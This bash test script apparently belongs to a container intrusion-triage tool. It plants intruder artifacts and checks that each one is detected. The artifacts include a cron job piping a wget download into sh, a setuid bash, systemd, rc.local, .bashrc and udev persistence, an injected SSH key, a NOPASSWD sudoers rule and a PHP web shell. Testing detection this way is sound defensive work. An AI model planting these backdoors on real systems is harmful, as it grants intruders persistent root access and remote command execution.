#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# What an intruder leaves in the files: programs, rights, persistence, a web shell, times set back.
# timeout: 600
# needs: mmdebstrap
. "$CSI_TOP/tests/helpers/lib.sh"
. "$CSI_TOP/tests/attacks/lib.sh"
caps '{}' CAP_LINUX_IMMUTABLE >patch.json
attack_up patch.json
[ -e app/app/below ] || fail "no file in the layer below"

do_sh 'cp /bin/true /tmp/kinsing
	cp /bin/true /tmp/upd
	cp /bin/bash /usr/local/bin/bb && chmod 4755 /usr/local/bin/bb
	cp /bin/true /usr/local/bin/capable
	echo "* * * * * root wget -q -O - http://127.0.0.1/d.sh | sh" >/etc/cron.d/zzz
	printf "[Service]\nExecStart=/tmp/upd\n" >/etc/systemd/system/upd.service
	printf "#!/bin/sh\n/tmp/upd\n" >/etc/rc.local && chmod +x /etc/rc.local
	echo "/tmp/upd &" >>/root/.bashrc
	mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHtestkeytestkeytestkeytestkeytestkey x" >/root/.ssh/authorized_keys
	echo "www-data ALL=(ALL) NOPASSWD: ALL" >>/etc/sudoers
	mkdir -p /var/www/html && printf "<?php system(\$_GET[\"cmd\"]); ?>\n" >/var/www/html/up.php
	mkdir -p /etc/udev/rules.d && echo "ACTION==\"add\", RUN+=\"/tmp/upd\"" >/etc/udev/rules.d/99-upd.rules
	cp /bin/true /usr/local/bin/plain
	cp /bin/true /usr/local/bin/old && touch -d "2019-01-01 00:00:00" /usr/local/bin/old
	echo x >/usr/local/bin/keep'
start file-capability /usr/local/bin/capable
start immutable /usr/local/bin/keep
# From outside the container: the image layer itself.
echo more >>app/app/below
triage

found file-kinsing /tmp/kinsing
found file-dropped /tmp/upd
found file-setuid /usr/local/bin/bb
found file-capability /usr/local/bin/capable
found cron-job /etc/cron.d/zzz
found service-unit /etc/systemd/system/upd.service
found rc-script /etc/rc.local
found shell-profile /root/.bashrc
found ssh-key /root/.ssh/authorized_keys
found sudo-rule /etc/sudoers
found php-shell /var/www/html/up.php
found udev-rule /etc/udev/rules.d/99-upd.rules
found dropped-program /usr/local/bin/plain
found timestomp /usr/local/bin/old
found immutable /usr/local/bin/keep
found layer-changed /app/below

cells
